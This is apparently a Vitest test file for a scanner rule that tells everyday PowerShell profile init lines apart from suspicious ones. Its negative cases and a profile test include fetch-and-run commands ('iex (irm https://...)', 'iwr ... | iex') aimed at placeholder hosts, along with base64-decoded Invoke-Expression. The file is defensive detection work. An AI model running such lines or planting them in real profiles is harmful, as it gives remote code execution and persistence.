import { describe, expect, it } from 'vitest';
import { literal } from '../../src/analysis/code/values.js';
import { everydayProfile, isToolInitLine, withoutToolInit } from '../../src/rules/support/profile-lines.js';

/** PowerShell profile lines that are everyday set-up (rules/persistence.md: low), and those that are not. */
describe('PowerShell profile lines', () => {
  it.each([
    'oh-my-posh init pwsh --config "$env:POSH_THEMES_PATH\\paradox.omp.json" | Invoke-Expression',
    'Invoke-Expression (&starship init powershell)',
    'Invoke-Expression (& { (zoxide init powershell | Out-String) })',
    'fnm env --use-on-cd --shell powershell | Out-String | Invoke-Expression',
    'mise activate pwsh | Out-String | Invoke-Expression',
  ])('tool init: %s', (line) => {
    expect(isToolInitLine(line)).toBe(true);
  });

  it.each([
    'iex (irm https://get.example-sh.net/init.ps1)',
    'oh-my-posh init pwsh --config https://themes.example-cdn.net/x.omp.json | Invoke-Expression',
    '& ([scriptblock]::Create((oh-my-posh init pwsh) -join "`n"))',
    'Invoke-Expression ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))',
    'Invoke-Expression $env:INIT',
  ])('not tool init: %s', (line) => {
    expect(isToolInitLine(line)).toBe(false);
  });

  it('a profile of imports, aliases and init lines is everyday; one fetch in it is not', () => {
    const ok =
      'Import-Module posh-git\nSet-Alias k kubectl\n# prompt\nInvoke-Expression (&starship init powershell)';
    expect(everydayProfile(literal(ok))).toBe(true);
    expect(everydayProfile(literal(`${ok}\niwr https://x.example-a.net/p.ps1 | iex`))).toBe(false);
  });

  it('the init lines are dropped before the content is judged for code it runs', () => {
    const v = literal('Invoke-Expression (&starship init powershell)\niex (irm https://x.example-a.net/p)');
    expect(withoutToolInit(v)?.text).toBe('iex (irm https://x.example-a.net/p)');
  });
});
